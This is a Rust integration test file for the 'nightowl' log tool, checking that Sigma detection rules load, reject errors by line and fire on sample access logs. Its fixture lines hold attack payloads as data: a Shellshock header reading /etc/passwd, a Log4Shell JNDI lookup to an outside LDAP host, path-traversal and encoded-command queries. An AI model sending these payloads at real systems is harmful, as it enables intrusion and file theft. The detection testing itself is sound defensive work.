//! Sigma rules laid out exactly as SigmaHQ writes them, through the real
//! `nightowl rules check|test|run` binary: they load unmodified, fire on the
//! lines they describe and on no others, and every rule nightowl cannot run
//! is refused with the file and line at fault.

use crate::common;

use std::path::Path;
use std::process::{Command, Output};

use common::{wait_until, Collector, Settings};

fn nightowl(args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_nightowl"))
        .args(args)
        .output()
        .expect("run nightowl")
}

fn write(dir: &Path, name: &str, text: &str) {
    std::fs::write(dir.join(name), text).expect("write rule file");
}

fn path_str(p: &Path) -> &str {
    p.to_str().expect("utf-8 temp path")
}

/// `1 of selection*`, `and not filter`, `|cidr` in the filter, a list of
/// values with wildcards, and the SigmaHQ metadata block.
const TRAVERSAL: &str = r#"title: Path Traversal Exploitation Attempts
id: 7745c2ea-24a5-4290-b680-04359cb84b35
status: test
description: Detects path traversal exploitation attempts
references:
    - https://github.com/projectdiscovery/nuclei-templates
author: Subhash Popuri (@pbssubhash), nightowl
date: 2021-09-25
modified: 2023-08-31
tags:
    - attack.initial-access
    - attack.t1190
logsource:
    category: webserver
detection:
    selection_traversal:
        cs-uri-query|contains:
            - '../../../../../lib/password'
            - '/../../../../etc/passwd'
            - '..%2F..%2F'
    selection_wildcard:
        cs-uri-stem:
            - '/wp-*/*.php.bak'
            - '/backup?.zip'
    filter_internal_scanner:
        c-ip|cidr:
            - '10.0.0.0/8'
            - '192.168.0.0/16'
    condition: 1 of selection_* and not filter_internal_scanner
fields:
    - c-ip
    - cs-uri-query
falsepositives:
    - Expected to be continuous seen on systems exposed to the Internet
level: medium
"#;

/// `|contains|all`, a case-sensitive `|re`, numbers, a method list and
/// `null`, combined with `and`, `or` and parentheses.
const TOOLS: &str = r#"title: Admin Console Probe by a Scripted Client
id: 3f6f0c8e-1111-4c1e-9d61-0a4a0f3f9a01
status: experimental
description: Mixed selections the way SigmaHQ composes them
author: nightowl
date: 2026-11-24
tags:
    - attack.discovery
logsource:
    category: webserver
    product: nginx
detection:
    selection_agent:
        cs-user-agent|contains|all:
            - 'Mozilla'
            - 'zgrab'
    selection_console:
        cs-uri-stem|re: '^/Admin(Console)?/'
        sc-status:
            - 200
            - 302
    selection_method:
        cs-method:
            - 'PUT'
            - 'DELETE'
        cs-referer: null
    condition: selection_agent or (selection_console and not selection_agent) or selection_method
level: high
"#;

/// Keywords: plain strings matched anywhere in the line.
const KEYWORDS: &str = r#"title: Shellshock Function Definition in a Request
id: 27aec9c9-dbb0-4939-8422-1742242471d0
status: test
description: Detects the Shellshock payload in any logged header
author: Florian Roth (Nextron Systems), nightowl
date: 2017-03-14
tags:
    - attack.persistence
    - attack.t1505.003
logsource:
    category: webserver
detection:
    keywords:
        - '() {'
        - '(){:;};'
    condition: keywords
level: high
"#;

/// The deprecated aggregation form, mapped to a threshold rule.
const BURST: &str = r#"title: Many Not Found Responses for One Client
id: 0d1e6f7a-2b3c-4d5e-8f90-a1b2c3d4e5f6
status: test
description: A client collects more than four 404s within a minute
author: nightowl
date: 2026-11-24
logsource:
    category: webserver
detection:
    selection:
        sc-status: 404
    timeframe: 1m
    condition: selection | count() by c-ip > 4
level: low
"#;

const TRAVERSAL_TESTS: &str = r#"- name: traversal from outside fires, the internal scanner does not
  format: combined
  lines: |
    203.0.113.7 - - [10/Oct/2024:12:00:00 +0000] "GET /x?f=/../../../../etc/passwd HTTP/1.1" 404 0 "-" "curl/8"
    10.1.2.3 - - [10/Oct/2024:12:00:01 +0000] "GET /x?f=/../../../../etc/passwd HTTP/1.1" 404 0 "-" "curl/8"
  expect: [{key: 203.0.113.7}]
- name: a wildcard stem fires
  format: combined
  lines: |
    198.51.100.4 - - [10/Oct/2024:12:00:00 +0000] "GET /wp-content/db.php.bak HTTP/1.1" 404 0 "-" "curl/8"
  expect: [{key: 198.51.100.4}]
"#;

/// The log `rules run` reads: (client, line) where each client is there for
/// one reason, named in the comment beside it.
const LOG: &str = r#"203.0.113.7 - - [10/Oct/2024:12:00:00 +0000] "GET /x?f=..%2F..%2Fetc HTTP/1.1" 404 0 "-" "curl/8"
10.9.9.9 - - [10/Oct/2024:12:00:01 +0000] "GET /x?f=..%2F..%2Fetc HTTP/1.1" 404 0 "-" "curl/8"
198.51.100.4 - - [10/Oct/2024:12:00:02 +0000] "GET /wp-includes/x.php.bak HTTP/1.1" 404 0 "-" "curl/8"
198.51.100.5 - - [10/Oct/2024:12:00:03 +0000] "GET /backup1.zip HTTP/1.1" 404 0 "-" "curl/8"
198.51.100.6 - - [10/Oct/2024:12:00:04 +0000] "GET /backup12.zip HTTP/1.1" 404 0 "-" "curl/8"
203.0.113.20 - - [10/Oct/2024:12:00:05 +0000] "GET / HTTP/1.1" 200 10 "-" "Mozilla/5.0 zgrab/0.x"
203.0.113.21 - - [10/Oct/2024:12:00:06 +0000] "GET / HTTP/1.1" 200 10 "-" "zgrab/0.x"
203.0.113.22 - - [10/Oct/2024:12:00:07 +0000] "GET /AdminConsole/index HTTP/1.1" 200 10 "-" "Mozilla/5.0"
203.0.113.23 - - [10/Oct/2024:12:00:08 +0000] "GET /adminconsole/index HTTP/1.1" 200 10 "-" "Mozilla/5.0"
203.0.113.24 - - [10/Oct/2024:12:00:09 +0000] "GET /Admin/index HTTP/1.1" 404 10 "-" "Mozilla/5.0"
203.0.113.25 - - [10/Oct/2024:12:00:10 +0000] "DELETE /api/item/1 HTTP/1.1" 204 0 "-" "curl/8"
203.0.113.26 - - [10/Oct/2024:12:00:11 +0000] "DELETE /api/item/1 HTTP/1.1" 204 0 "https://app.example/" "curl/8"
203.0.113.30 - - [10/Oct/2024:12:00:12 +0000] "GET /cgi-bin/status HTTP/1.1" 200 10 "-" "() { :; }; /bin/cat /etc/passwd"
203.0.113.40 - - [10/Oct/2024:12:00:20 +0000] "GET /a1 HTTP/1.1" 404 0 "-" "Mozilla/5.0"
203.0.113.40 - - [10/Oct/2024:12:00:21 +0000] "GET /a2 HTTP/1.1" 404 0 "-" "Mozilla/5.0"
203.0.113.40 - - [10/Oct/2024:12:00:22 +0000] "GET /a3 HTTP/1.1" 404 0 "-" "Mozilla/5.0"
203.0.113.40 - - [10/Oct/2024:12:00:23 +0000] "GET /a4 HTTP/1.1" 404 0 "-" "Mozilla/5.0"
203.0.113.40 - - [10/Oct/2024:12:00:24 +0000] "GET /a5 HTTP/1.1" 404 0 "-" "Mozilla/5.0"
203.0.113.41 - - [10/Oct/2024:12:00:25 +0000] "GET /b1 HTTP/1.1" 404 0 "-" "Mozilla/5.0"
203.0.113.41 - - [10/Oct/2024:12:00:26 +0000] "GET /b2 HTTP/1.1" 404 0 "-" "Mozilla/5.0"
203.0.113.41 - - [10/Oct/2024:12:00:27 +0000] "GET /b3 HTTP/1.1" 404 0 "-" "Mozilla/5.0"
203.0.113.41 - - [10/Oct/2024:12:00:28 +0000] "GET /b4 HTTP/1.1" 404 0 "-" "Mozilla/5.0"
"#;

fn sigma_dir() -> tempfile::TempDir {
    let dir = tempfile::tempdir().expect("tempdir");
    write(dir.path(), "web_path_traversal.yml", TRAVERSAL);
    write(dir.path(), "web_path_traversal.tests.yaml", TRAVERSAL_TESTS);
    write(dir.path(), "web_admin_console.yaml", TOOLS);
    write(dir.path(), "web_shellshock_keywords.yml", KEYWORDS);
    write(dir.path(), "web_404_burst.yml", BURST);
    dir
}

#[test]
fn sigmahq_shaped_rules_check_and_their_sidecar_fixtures_pass() {
    let dir = sigma_dir();
    let check = nightowl(&["rules", "check", path_str(dir.path())]);
    assert_eq!(check.status.code(), Some(0), "{check:?}");
    let out = String::from_utf8_lossy(&check.stdout);
    assert!(out.contains("4 rules, 2 fixtures"), "{out}");

    let test = nightowl(&["rules", "test", path_str(dir.path())]);
    assert_eq!(test.status.code(), Some(0), "{test:?}");
    let out = String::from_utf8_lossy(&test.stdout);
    assert!(out.contains("2 passed, 0 failed"), "{out}");
    assert!(
        out.contains("ok      7745c2ea-24a5-4290-b680-04359cb84b35 :: a wildcard stem fires"),
        "{out}"
    );
}

/// One rule file, as a rule author checks the one they are writing: the
/// file alone (not its directory's other rules) with its sidecar fixtures.
#[test]
fn rules_check_and_test_take_one_file_with_its_sidecar() {
    let dir = sigma_dir();
    let file = dir.path().join("web_path_traversal.yml");
    let check = nightowl(&["rules", "check", path_str(&file)]);
    assert_eq!(check.status.code(), Some(0), "{check:?}");
    let out = String::from_utf8_lossy(&check.stdout);
    assert!(out.contains("1 rules, 2 fixtures"), "{out}");
    let test = nightowl(&["rules", "test", path_str(&file)]);
    assert_eq!(test.status.code(), Some(0), "{test:?}");
    let out = String::from_utf8_lossy(&test.stdout);
    assert!(out.contains("2 passed, 0 failed"), "{out}");

    // A file with several bad rules: every error, each at its line.
    let bad = dir.path().join("bad.yaml");
    std::fs::write(
        &bad,
        "id: a\ntitle: t\nseverity: warning\ndetect: {kind: bogus}\n---\n\
         id: b\ntitle: t\nseverity: bad\ndetect: {kind: match}\n---\n\
         id: c\ntitle: t\ntitle: again\nseverity: warning\ndetect: {kind: match}\n",
    )
    .expect("write");
    let check = nightowl(&["rules", "check", path_str(&bad)]);
    assert_eq!(check.status.code(), Some(2), "{check:?}");
    let err = String::from_utf8_lossy(&check.stderr);
    for at in [
        "bad.yaml:4: ",
        "bad.yaml:8: ",
        "bad.yaml:13: duplicate field `title`",
    ] {
        assert!(err.contains(at), "{at} missing: {err}");
    }
}

#[test]
fn a_failing_sidecar_fixture_exits_1_with_a_diff() {
    let dir = sigma_dir();
    write(
        dir.path(),
        "web_path_traversal.tests.yaml",
        r#"- name: the internal scanner is expected, wrongly, to fire
  format: combined
  lines: |
    10.1.2.3 - - [10/Oct/2024:12:00:01 +0000] "GET /x?f=/../../../../etc/passwd HTTP/1.1" 404 0 "-" "curl/8"
  expect: [{key: 10.1.2.3}]
"#,
    );
    let test = nightowl(&["rules", "test", path_str(dir.path())]);
    assert_eq!(test.status.code(), Some(1), "{test:?}");
    let out = String::from_utf8_lossy(&test.stdout);
    assert!(out.contains("FAILED  7745c2ea"), "{out}");
    assert!(
        out.contains("- expected: rule=7745c2ea-24a5-4290-b680-04359cb84b35 key=10.1.2.3"),
        "{out}"
    );
}

/// `rules run DIR --file LOG [--format F]`, which must succeed: its
/// stdout (NDJSON firings).
fn run_ok(dir: &Path, log: &Path, format: Option<&str>) -> String {
    let mut args = vec!["rules", "run", path_str(dir), "--file", path_str(log)];
    args.extend(format.iter().flat_map(|f| ["--format", *f]));
    let out = nightowl(&args);
    assert_eq!(out.status.code(), Some(0), "{out:?}");
    String::from_utf8_lossy(&out.stdout).into_owned()
}

#[test]
fn rules_run_fires_each_sigma_rule_on_exactly_its_lines() {
    let dir = sigma_dir();
    let log = dir.path().join("access.log");
    std::fs::write(&log, LOG).expect("write log");
    let stdout = run_ok(dir.path(), &log, Some("combined"));
    let firings: Vec<serde_json::Value> = stdout
        .lines()
        .map(|l| serde_json::from_str(l).expect("each line is JSON"))
        .collect();
    let mut got: Vec<(String, String)> = firings
        .iter()
        .map(|f| {
            (
                f["rule_id"].as_str().unwrap_or_default()[..8].to_string(),
                f["key"].as_str().unwrap_or_default().to_string(),
            )
        })
        .collect();
    got.sort();
    let mut want: Vec<(String, String)> = [
        // 1 of selection_* and not the 10.0.0.0/8 filter; the `?` in
        // /backup?.zip is one character, so backup12.zip does not match.
        ("7745c2ea", "203.0.113.7"),
        ("7745c2ea", "198.51.100.4"),
        ("7745c2ea", "198.51.100.5"),
        // |contains|all needs both words; |re is case-sensitive and
        // wants 200/302; DELETE fires only without a referer (null).
        ("3f6f0c8e", "203.0.113.20"),
        ("3f6f0c8e", "203.0.113.22"),
        ("3f6f0c8e", "203.0.113.25"),
        // Keywords anywhere in the line.
        ("27aec9c9", "203.0.113.30"),
        // count() by c-ip > 4: five 404s fire, four do not.
        ("0d1e6f7a", "203.0.113.40"),
    ]
    .iter()
    .map(|(r, k)| (r.to_string(), k.to_string()))
    .collect();
    want.sort();
    assert_eq!(got, want, "{stdout}");

    let burst = firings
        .iter()
        .find(|f| f["rule_id"] == "0d1e6f7a-2b3c-4d5e-8f90-a1b2c3d4e5f6")
        .expect("burst firing");
    assert_eq!(burst["count"], 5, "{burst}");
    assert_eq!(burst["window"], 60.0, "{burst}");
    let traversal = firings
        .iter()
        .find(|f| f["key"] == "203.0.113.7")
        .expect("traversal firing");
    // level medium → warning; tags and the Sigma metadata carried along.
    assert_eq!(traversal["severity"], "warning", "{traversal}");
    assert_eq!(traversal["labels"]["format"], "sigma", "{traversal}");
    assert_eq!(traversal["tags"][1], "attack.t1190", "{traversal}");
    let tools = firings
        .iter()
        .find(|f| f["key"] == "203.0.113.20")
        .expect("tools firing");
    assert_eq!(tools["severity"], "critical", "{tools}");
}

#[test]
fn an_empty_value_matches_a_field_logged_empty() {
    // SigmaHQ's proxy_ua_empty, as written there.
    let dir = tempfile::tempdir().expect("tempdir");
    write(
        dir.path(),
        "proxy_ua_empty.yml",
        "title: Empty User Agent\nid: 21e44d78-95e7-421b-a464-ffd8395659c4\nstatus: test\n\
         logsource:\n  category: proxy\ndetection:\n  selection:\n    c-useragent: ''\n  \
         condition: selection\nlevel: medium\n",
    );
    let log = dir.path().join("access.log");
    // A forward proxy's requests (absolute URLs), and a web server's own
    // request, which a proxy rule leaves alone.
    let line = |ip: &str, target: &str, ua: &str| {
        format!(r#"{ip} - - [24/Nov/2026:10:00:01 +0000] "GET {target} HTTP/1.1" 200 5 "-" "{ua}""#)
    };
    std::fs::write(
        &log,
        [
            line("203.0.113.1", "http://example.com/", ""),
            line("203.0.113.2", "http://example.com/", "-"),
            line("203.0.113.3", "http://example.com/", "curl/8.4.0"),
            line("203.0.113.4", "/", ""),
        ]
        .join("\n"),
    )
    .expect("write log");
    let stdout = run_ok(dir.path(), &log, None);
    let keys: Vec<String> = stdout
        .lines()
        .map(|l| {
            let f: serde_json::Value = serde_json::from_str(l).expect("each line is JSON");
            f["key"].as_str().unwrap_or_default().to_string()
        })
        .collect();
    assert_eq!(
        keys.len(),
        2,
        "the empty and the '-' agent, not curl: {stdout}"
    );
    assert!(!stdout.contains("203.0.113.3"), "{stdout}");
}

/// `rules check` on one bad Sigma file: exit 2 and `file:line: message`.
fn check_fails(body: &str) -> String {
    let dir = tempfile::tempdir().expect("tempdir");
    write(dir.path(), "bad.yml", body);
    let out = nightowl(&["rules", "check", path_str(dir.path())]);
    assert_eq!(out.status.code(), Some(2), "{out:?}");
    String::from_utf8_lossy(&out.stderr).to_string()
}

const HEAD: &str = "title: Bad\nid: 11111111-2222-3333-4444-555555555555\nlogsource:\n    category: webserver\ndetection:\n";

#[test]
fn unsupported_modifier_names_file_and_line() {
    let e = check_fails(&format!(
        "{HEAD}    selection:\n        cs-method: GET\n        cs-uri-query|windash: '-x'\n    condition: selection\n"
    ));
    assert!(e.contains("bad.yml:8:"), "{e}");
    assert!(e.contains("unsupported Sigma modifier |windash"), "{e}");
}

#[test]
fn unknown_and_unavailable_fields_name_file_and_line() {
    let e = check_fails(&format!(
        "{HEAD}    selection:\n        cs-uri-stem: /x\n    filter:\n        CommandLine|contains: whoami\n    condition: selection and not filter\n"
    ));
    assert!(e.contains("bad.yml:9:"), "{e}");
    assert!(e.contains("unknown field \"CommandLine\""), "{e}");
}

#[test]
fn a_rule_on_a_field_access_logs_lack_loads_disabled_beside_the_others() {
    // SigmaHQ's web folders hold a few such rules: the directory of good
    // rules beside them still loads, and the check names the one not run.
    let dir = sigma_dir();
    write(
        dir.path(),
        "web_cookie.yml",
        &format!(
            "{HEAD}    selection:\n        cs-cookie|contains: session\n    condition: selection\n"
        ),
    );
    let out = nightowl(&["rules", "check", path_str(dir.path())]);
    assert_eq!(out.status.code(), Some(0), "{out:?}");
    let (stdout, stderr) = (
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr),
    );
    assert!(
        stderr.contains("not run: ")
            && stderr.contains("web_cookie.yml:2:")
            && stderr.contains("\"cs-cookie\" is not available"),
        "{stderr}"
    );
    assert!(
        stdout.contains("(1 loaded disabled, see above)"),
        "{stdout}"
    );
    // The other rules run as before; the disabled one fires on nothing.
    let log = dir.path().join("access.log");
    std::fs::write(&log, LOG).expect("write log");
    let stdout = run_ok(dir.path(), &log, Some("combined"));
    assert!(stdout.contains("7745c2ea"), "{stdout}");
    assert!(!stdout.contains("11111111-2222"), "{stdout}");
}

#[test]
fn unsupported_logsource_names_file_and_line() {
    let e = check_fails(
        "title: Bad\nlogsource:\n    product: windows\n    category: process_creation\ndetection:\n    selection:\n        Image|endswith: '\\cmd.exe'\n    condition: selection\n",
    );
    assert!(e.contains("bad.yml:4:"), "{e}");
    assert!(e.contains("unsupported Sigma logsource"), "{e}");
}

#[test]
fn bad_conditions_and_aggregations_name_file_and_line() {
    let e = check_fails(&format!(
        "{HEAD}    selection:\n        cs-method: GET\n    condition: selection and not filter_typo\n"
    ));
    assert!(e.contains("bad.yml:8:"), "{e}");
    assert!(
        e.contains("unknown search identifier \"filter_typo\""),
        "{e}"
    );
    let e = check_fails(&format!(
        "{HEAD}    selection:\n        cs-method: GET\n    condition: 1 of filter*\n"
    ));
    assert!(e.contains("bad.yml:8:"), "{e}");
    assert!(e.contains("filter* matches no search identifier"), "{e}");
    let e = check_fails(&format!(
        "{HEAD}    selection:\n        cs-method: GET\n    timeframe: 5m\n    condition: selection | count() by c-ip < 3\n"
    ));
    assert!(e.contains("bad.yml:9:"), "{e}");
    assert!(e.contains("only `>` and `>=`"), "{e}");
    let e = check_fails(&format!(
        "{HEAD}    selection:\n        cs-uri-query|re: '(unclosed'\n    condition: selection\n"
    ));
    assert!(e.contains("bad.yml:7:"), "{e}");
    assert!(e.contains("bad regex"), "{e}");
}

#[test]
fn the_sigma_pack_and_examples_check_and_their_fixtures_pass() {
    for dir in ["rules/sigma", "examples/sigma"] {
        let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join(dir);
        let dir = dir.to_str().expect("utf-8 path");
        let check = nightowl(&["rules", "check", dir]);
        assert_eq!(check.status.code(), Some(0), "{dir}: {check:?}");
        let test = nightowl(&["rules", "test", dir]);
        assert_eq!(test.status.code(), Some(0), "{dir}: {test:?}");
        let out = String::from_utf8_lossy(&test.stdout);
        assert!(out.contains(" 0 failed"), "{dir}: {out}");
        assert!(!out.contains("without fixtures"), "{dir}: {out}");
    }
}

/// A rules directory holding the Sigma pack and the Sigma examples.
fn sigma_pack_and_examples(root: &Path) -> std::path::PathBuf {
    let dir = root.join("sigma-rules");
    std::fs::create_dir_all(&dir).expect("rules dir");
    for from in ["rules/sigma", "examples/sigma"] {
        let from = Path::new(env!("CARGO_MANIFEST_DIR")).join(from);
        for entry in std::fs::read_dir(&from).expect("read sigma dir") {
            let path = entry.expect("dir entry").path();
            if path.extension().is_some_and(|e| e == "yml") {
                std::fs::copy(&path, dir.join(path.file_name().expect("file name")))
                    .expect("copy rule");
            }
        }
    }
    dir
}

#[test]
fn base64offset_and_cased_modifiers_match_like_sigma() {
    let dir = tempfile::tempdir().expect("tempdir");
    write(
        dir.path(),
        "encoded.yml",
        r#"title: Encoded Command in a Parameter
id: 5b0c8a52-0f7e-4e8e-9a39-6a3f1b2c4d5e
logsource:
    category: webserver
detection:
    selection_b64:
        cs-uri-query|base64offset|contains: 'whoami'
    selection_cased:
        cs-uri-stem|cased|startswith: '/PHPMyAdmin'
    condition: 1 of selection_*
level: high
"#,
    );
    // "whoami" base64-encoded at each of the three offsets inside a longer
    // value, and the cased prefix with and without the right case.
    let log = dir.path().join("a.log");
    std::fs::write(
        &log,
        concat!(
            "203.0.113.1 - - [10/Oct/2024:12:00:00 +0000] \"GET /r?c=d2hvYW1p HTTP/1.1\" 200 1 \"-\" \"x\"\n",
            "203.0.113.2 - - [10/Oct/2024:12:00:01 +0000] \"GET /r?c=eCB3aG9hbWk= HTTP/1.1\" 200 1 \"-\" \"x\"\n",
            "203.0.113.3 - - [10/Oct/2024:12:00:02 +0000] \"GET /r?c=eHggd2hvYW1p HTTP/1.1\" 200 1 \"-\" \"x\"\n",
            "203.0.113.4 - - [10/Oct/2024:12:00:03 +0000] \"GET /r?c=aGVsbG8gd29ybGQ= HTTP/1.1\" 200 1 \"-\" \"x\"\n",
            "203.0.113.5 - - [10/Oct/2024:12:00:04 +0000] \"GET /PHPMyAdmin/index.php HTTP/1.1\" 200 1 \"-\" \"x\"\n",
            "203.0.113.6 - - [10/Oct/2024:12:00:05 +0000] \"GET /phpmyadmin/index.php HTTP/1.1\" 200 1 \"-\" \"x\"\n",
        ),
    )
    .expect("write log");
    let stdout = run_ok(dir.path(), &log, Some("combined"));
    let mut keys: Vec<String> = stdout
        .lines()
        .map(|l| {
            let f: serde_json::Value = serde_json::from_str(l).expect("JSON firing");
            f["key"].as_str().unwrap_or_default().to_string()
        })
        .collect();
    keys.sort();
    assert_eq!(
        keys,
        ["203.0.113.1", "203.0.113.2", "203.0.113.3", "203.0.113.5"],
        "{stdout}"
    );
}

#[test]
fn the_sigma_pack_fires_live_on_lines_shipped_by_the_agent() {
    let root = tempfile::tempdir().expect("tempdir");
    let pack = sigma_pack_and_examples(root.path());
    let collector = Collector::start(
        root.path(),
        Settings {
            rules_dir: Some(pack),
            ..Settings::default()
        },
    );
    let log = root.path().join("access.log");
    std::fs::write(
        &log,
        concat!(
            "192.0.2.10 - - [10/Oct/2024:12:00:00 +0000] \"GET /index.html HTTP/1.1\" 200 512 \"-\" \"Mozilla/5.0\"\n",
            "203.0.113.77 - - [10/Oct/2024:12:00:01 +0000] \"GET / HTTP/1.1\" 200 10 \"-\" \"${jndi:ldap://198.51.100.7:1389/a}\"\n",
            "203.0.113.78 - - [10/Oct/2024:12:00:02 +0000] \"TRACE / HTTP/1.1\" 405 0 \"-\" \"Mozilla/5.0\"\n",
        ),
    )
    .expect("write log");
    let (status, stderr) = collector.run_agent_once("agent", &root.path().join("state"), &[&log]);
    assert!(status.success(), "agent failed: {stderr}");
    collector.wait_for_count("*", 3);

    let firings = wait_until("both Sigma firings", || {
        let body = collector.api_json("/api/v1/firings");
        let list = body["firings"].as_array()?.clone();
        (list.len() >= 2).then_some(list)
    });
    let find = |id: &str| {
        firings
            .iter()
            .find(|f| f["rule_id"] == id)
            .unwrap_or_else(|| panic!("no firing of {id}: {firings:?}"))
    };
    let log4shell = find("9f733aa3-f808-4928-a1d3-4578ea29ab8b");
    assert_eq!(log4shell["key"], "203.0.113.77", "{log4shell}");
    assert_eq!(log4shell["severity"], "critical", "{log4shell}");
    let trace = find("e6f0e24f-e442-4711-bd84-0d6e5d8a1a44");
    assert_eq!(trace["key"], "203.0.113.78", "{trace}");
    assert_eq!(trace["severity"], "info", "{trace}");
    assert!(
        !firings.iter().any(|f| f["key"] == "192.0.2.10"),
        "the ordinary request fired: {firings:?}"
    );
}

#[test]
fn a_bad_pattern_in_a_regex_list_is_named_with_its_line() {
    // The list is compiled as one alternation; its error still names the
    // pattern at fault.
    let e = check_fails(&format!(
        "{HEAD}    selection:\n        cs-uri-query|re:\n            - 'union.+select'\n            - '(bad'\n    condition: selection\n"
    ));
    assert!(e.contains("bad.yml:9:"), "{e}");
    assert!(e.contains("bad regex \"(bad\""), "{e}");
}

#[test]
fn an_error_log_keyword_rule_with_service_only_fires_without_a_client_key() {
    // SigmaHQ marks web server error-log rules with `service: apache` alone;
    // such lines carry no client, so the rule has one global key.
    let dir = tempfile::tempdir().expect("tempdir");
    write(
        dir.path(),
        "web_core_dump.yml",
        "title: Worker Core Dump\nid: 0a1b2c3d-0000-4000-8000-000000000001\nstatus: test\nlogsource:\n    service: apache\ndetection:\n    keywords:\n        - 'exited on signal 6 (core dumped)'\n    condition: keywords\nlevel: high\n",
    );
    let log = dir.path().join("error.log");
    std::fs::write(
        &log,
        "2024/10/10 12:00:00 [notice] 1234#0: signal process started\n\
         2024/10/10 12:00:01 [alert] 1234#0: worker process 5678 exited on signal 6 (core dumped)\n",
    )
    .expect("write log");
    let stdout = run_ok(dir.path(), &log, None);
    let firings: Vec<serde_json::Value> = stdout
        .lines()
        .map(|l| serde_json::from_str(l).expect("JSON firing"))
        .collect();
    assert_eq!(firings.len(), 1, "{stdout}");
    assert_eq!(firings[0]["key"], "", "{stdout}");
    assert!(
        firings[0]["sample_lines"][0]
            .as_str()
            .is_some_and(|l| l.contains("core dumped")),
        "{stdout}"
    );
}

#[test]
fn broken_sigma_yaml_is_reported_as_yaml_with_its_line() {
    let e = check_fails(&format!(
        "{HEAD}    selection:\n        cs-method: GET\n        cs-method: POST\n    condition: selection\n"
    ));
    assert!(e.contains("bad.yml:"), "{e}");
    assert!(e.contains("Sigma rule"), "{e}");
    assert!(e.contains("duplicate entry with key \"cs-method\""), "{e}");
}

/// Squid's native access log, shipped by the agent: the lines parse (the
/// URL as `c-uri`, its host as `cs-host`) and the proxy rules of the pack
/// fire on them.
#[test]
fn proxy_rules_fire_live_on_squid_lines_shipped_by_the_agent() {
    let root = tempfile::tempdir().expect("tempdir");
    let pack = Path::new(env!("CARGO_MANIFEST_DIR")).join("rules/sigma");
    let collector = Collector::start(
        root.path(),
        Settings {
            rules_dir: Some(pack),
            ..Settings::default()
        },
    );
    let log = root.path().join("access.log");
    std::fs::write(
        &log,
        concat!(
            "1728561600.120    215 10.1.2.8 TCP_MISS/200 48213 GET https://example.com/index.html - HIER_DIRECT/93.184.216.34 text/html\n",
            "1728561601.480     88 10.1.2.3 TCP_MISS/200 1843 GET https://pastebin.com/raw/Xz81mQpa - HIER_DIRECT/104.20.67.143 text/plain\n",
            "1728561602.003    915 10.1.2.4 TCP_MISS/200 884736 GET http://update-check.duckdns.org/files/setup.exe - HIER_DIRECT/198.51.100.44 application/octet-stream\n",
        ),
    )
    .expect("write log");
    let (status, stderr) = collector.run_agent_once("agent", &root.path().join("state"), &[&log]);
    assert!(status.success(), "agent failed: {stderr}");
    collector.wait_for_count("*", 3);
    // Searchable as parsed proxy lines; the sites visited are not taken
    // for hosts of ours (host-keyed availability rules never see them).
    assert_eq!(collector.count("path:pastebin"), 1);
    assert_eq!(collector.count("format:squid"), 3);
    assert_eq!(collector.count("host:pastebin.com"), 0);
    let firings = wait_until("both proxy firings", || {
        let body = collector.api_json("/api/v1/firings");
        let list = body["firings"].as_array()?.clone();
        (list.len() >= 2).then_some(list)
    });
    let key_of = |id: &str| {
        firings
            .iter()
            .find(|f| f["rule_id"] == id)
            .map(|f| f["key"].clone())
            .unwrap_or_else(|| panic!("no firing of {id}: {firings:?}"))
    };
    assert_eq!(key_of("9ecb807a-f645-4820-9eb1-fdb9cce38dab"), "10.1.2.3");
    assert_eq!(key_of("5e225485-8507-4dc8-9f61-3e902aa0797d"), "10.1.2.4");
    assert!(
        !firings.iter().any(|f| f["key"] == "10.1.2.8"),
        "{firings:?}"
    );
}

/// SigmaHQ's `|contains` on `sc-status` (its Zimbra CVE-2022-27925 rule):
/// the status codes whose text matches, as Sigma backends compare it.
#[test]
fn a_contains_on_sc_status_matches_the_codes_whose_text_contains_it() {
    let dir = tempfile::tempdir().expect("tempdir");
    write(
        dir.path(),
        "zimbra.yml",
        &format!(
            "{HEAD}    selection_shell:\n        cs-uri-query|contains: '/zimbraAdmin/'\n        \
             cs-uri-query|endswith: '.jsp'\n        sc-status|contains: '200'\n    condition: 1 of selection_*\n"
        ),
    );
    let log = dir.path().join("access.log");
    std::fs::write(
        &log,
        concat!(
            "203.0.113.5 - - [10/Oct/2024:12:00:00 +0000] \"GET /x?/zimbraAdmin/a.jsp HTTP/1.1\" 200 1 \"-\" \"x\"\n",
            "203.0.113.6 - - [10/Oct/2024:12:00:01 +0000] \"GET /x?/zimbraAdmin/a.jsp HTTP/1.1\" 404 1 \"-\" \"x\"\n",
        ),
    )
    .expect("write log");
    let out = nightowl(&[
        "rules",
        "run",
        path_str(dir.path()),
        "--file",
        path_str(&log),
    ]);
    assert_eq!(out.status.code(), Some(0), "{out:?}");
    let text = String::from_utf8_lossy(&out.stdout);
    assert_eq!(text.lines().count(), 1, "{text}");
    assert!(text.contains("203.0.113.5"), "{text}");
}

/// Every web rule of SigmaHQ (`rules/web/`, and the webserver and proxy
/// rules of `rules-emerging-threats/`), from a checkout named by
/// `NIGHTOWL_SIGMAHQ` (DRL-licensed, so not copied here): each loads, or is
/// refused because a field it needs is in no access log nightowl parses,
/// with that reason. Without the variable there is nothing to check.
#[test]
fn sigmahq_web_rules_load_or_are_refused_with_a_reason() {
    let Some(root) = std::env::var_os("NIGHTOWL_SIGMAHQ") else {
        eprintln!("NIGHTOWL_SIGMAHQ unset: SigmaHQ's web rules not checked");
        return;
    };
    let root = Path::new(&root);
    let mut files = Vec::new();
    fn walk(dir: &Path, out: &mut Vec<std::path::PathBuf>) {
        for e in std::fs::read_dir(dir).expect("read dir").flatten() {
            let p = e.path();
            if p.is_dir() {
                walk(&p, out);
            } else if p.extension().is_some_and(|x| x == "yml") {
                out.push(p);
            }
        }
    }
    walk(&root.join("rules/web"), &mut files);
    let web = files.len();
    let mut et = Vec::new();
    walk(&root.join("rules-emerging-threats"), &mut et);
    et.retain(|p| {
        std::fs::read_to_string(p)
            .is_ok_and(|t| t.contains("category: webserver") || t.contains("category: proxy"))
    });
    files.extend(et);
    assert!(
        web >= 45 && files.len() >= web + 90,
        "{web} / {}",
        files.len()
    );
    let mut loaded = 0;
    let mut refused = Vec::new();
    let mut not_run = Vec::new();
    for p in &files {
        let text = std::fs::read_to_string(p).expect("read rule");
        match nightowl::detect::load::parse_str(&text, p) {
            Ok(rules) => {
                loaded += 1;
                not_run.extend(
                    rules
                        .iter()
                        .filter_map(|r| r.spec.labels.get("sigma_not_run").cloned()),
                );
            }
            Err(errors) => refused.extend(errors.into_iter().map(|e| e.to_string())),
        }
    }
    eprintln!(
